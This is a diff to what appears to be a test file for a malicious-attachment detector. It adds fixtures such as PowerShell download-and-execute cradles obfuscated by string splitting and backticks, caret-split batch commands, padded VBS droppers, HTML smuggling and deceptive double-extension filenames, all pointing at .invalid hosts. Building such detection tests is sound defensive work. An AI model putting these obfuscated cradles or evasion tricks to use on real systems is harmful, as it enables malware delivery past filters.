@@ -141,6 +141,7 @@ PS_DROPPER: Final = (
     "powershell -nop -w hidden -ep bypass -enc " + base64.b64encode(("nothing " * 20).encode("utf-16-le")).decode()
     + "\r\nIEX (New-Object Net.WebClient).DownloadString('http://example.invalid/')\r\n"
 ).encode()  # fmt: skip
+PS_COMMAND: Final = b"powershell -w hidden -enc " + base64.b64encode(("nothing " * 20).encode("utf-16-le"))
 BAT_BROKEN: Final = (
     "@echo off\r\nset a=abcdefghijklmnopqrstuvwxyz\r\n"
     + "%a:~1,1%%a:~4,1%%a:~7,1%%a:~1,1%%a:~4,1%%a:~7,1%%a:~2,1%\r\n" * 6
@@ -207,6 +208,11 @@ PDF_FORM: Final = pdf(
     b"<</S/JavaScript/JS(event.value = this.getField\\('a'\\).value;)>>",
     b"<</Type/Page>>",
 )
+PDF_CALCULATES: Final = pdf(
+    b"<</Type/Catalog/OpenAction 2 0 R>>",
+    b"<</S/JavaScript/JS(AFNumber_Format\\(2,0,0,0,'',true\\); var s = String.fromCharCode\\(32\\);"
+    b" eval\\('1+1'\\);)>>",
+)
 _OBJECT: Final = b"{\\object\\objemb%s{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000" + b"00" * 40 + b"}}"
 RTF_EQUATION: Final = b"{\\rtf1\\ansi " + _OBJECT % b"\\objupdate" + b"}"
 RTF_TEMPLATE: Final = b"{\\rtf1\\ansi{\\*\\template http://example.invalid/a.dot}text}"
@@ -224,6 +230,7 @@ HITS: Final = [
     Imitation("pdf.exe", "invoice.pdf.exe", PLAIN_PROGRAM, "MisleadingName", ("low", "medium", "high")),
     Imitation("in-archive", "i.zip", zipped({f"{n}.txt": b"x" for n in range(9)} | {"a.doc.scr": b"MZ text"}),
               "MisleadingName", ("medium", "high")),
+    Imitation("two-dots", "invoice.pdf..exe", PLAIN_PROGRAM, "MisleadingName"),
     Imitation("override", "report\u202efdp.exe", PLAIN_PROGRAM, "MisleadingName"),
     Imitation("blanks", "report.pdf" + " " * 60 + ".exe", PLAIN_PROGRAM, "MisleadingName"),
     Imitation("class-id", "report.{3050f4d8-98b5-11cf-bb82-00aa00bdce0b}", b"anything", "MisleadingName"),
@@ -254,11 +261,27 @@ HITS: Final = [
     Imitation("vbs-utf16", "order.vbs", b"\xff\xfe" + VBS_DROPPER.decode().encode("utf-16-le"), "ScriptDropper",
               ("medium", "high")),
     Imitation("js", "order.js", JS_OBFUSCATED, "ObfuscatedScript"),
-    Imitation("bat", "order.bat", BAT_BROKEN, "ObfuscatedScript", ("medium", "high")),
+    Imitation("bat", "order.bat", BAT_BROKEN, "ObfuscatedScript"),
+    Imitation("bat-carets", "order.bat", b"^".join(bytes((one,)) for one in PS_COMMAND[:24]) + PS_COMMAND[24:],
+              "ScriptDropper"),
+    Imitation("powershell-pieces", "order.ps1",
+              b"&('I'+'EX') (New-Object ('Net.'+'WebClient')).('Down'+'loadString')('http://x.invalid/')\n",
+              "ScriptDropper", ("medium", "high")),
+    Imitation("powershell-marks", "order.ps1",
+              b"I`E`X (Ne`w-Ob`ject Net.WebC`lient).Down`loadStr`ing('http://x.invalid/')\n", "ScriptDropper"),
+    Imitation("vbs-padded", "order.vbs", VBS_DROPPER + b"\n' padding" * 40_000, "ScriptDropper", ("medium", "high")),
+    Imitation("vbs-padded-twice", "order.vbs", b"\n' padding" * 40_000 + b"\n" + VBS_DROPPER + b"\n' padding" * 40_000,
+              "ScriptDropper", ("medium", "high")),
+    Imitation("vbs-blanks", "order.vbs", VBS_DROPPER + b"\nx Shell" + b" " * 260_000, "ScriptDropper",
+              ("medium", "high")),
+    Imitation("js-front", "order.js", b"%PDF-1.4\r\n" + VBS_DROPPER, "ScriptDropper", ("medium", "high")),
+    Imitation("js-mail-front", "order.js", b"From: x\r\nTo: y\r\nSubject: x\r\n\r\n" + VBS_DROPPER, "ScriptDropper",
+              ("medium", "high")),
     Imitation("jse", "order.jse", b"#@~^AAAAAA==" + noise(60).hex().encode(), "ObfuscatedScript", ("medium", "high")),
     Imitation("lnk", "order.lnk", DROPPER_LINK, "ShortcutDropper"),
     Imitation("lnk-with-page", "order.lnk", shortcut("x") + b"<script>var a</script>", "ShortcutDropper", ("high",)),
     Imitation("smuggling", "order.html", SMUGGLING, "HtmlSmuggling"),
+    Imitation("smuggling-utf16", "order.html", b"\xff\xfe" + SMUGGLING.decode().encode("utf-16-le"), "HtmlSmuggling"),
     Imitation("hta", "order.hta", HTA, "ScriptPage", ("medium", "high")),
     Imitation("password", "", closed("The password is 4711.\n", "order.exe"), "PasswordInText"),
     Imitation("password-de", "", closed("Das Passwort lautet geheim7\n", "order.js"), "PasswordInText"),
@@ -293,6 +316,10 @@ NEAR: Final = [
     _near("link", "report.lnk", PLAIN_LINK),
     _near("chart", "chart.html", CHART),
     _near("form", "form.pdf", PDF_FORM),
+    _near("template-of-the-company", "letter.rtf",
+          b"{\\rtf1{\\*\\template \\\\\\\\server\\\\share\\\\letter.dotx}Dear Sir}"),
+    _near("calculating-form", "form.pdf", PDF_CALCULATES, "high"),
+    _near("words-in-pieces", "menu.js", b"var a = 'The ' + 'quick ' + 'brown ' + 'fox' + name + '.' + 'html';\n" * 20),
     _near("formula", "old.rtf", RTF_OLD_FORMULA, "high"),
     _near("closed-without-password", "", closed("See attached.\n", "order.doc", "order.xls")),
     _near("password-policy", "", message("Your password is: never to be told.\n", [("a.zip", zipped({"a": b"a"}))])),
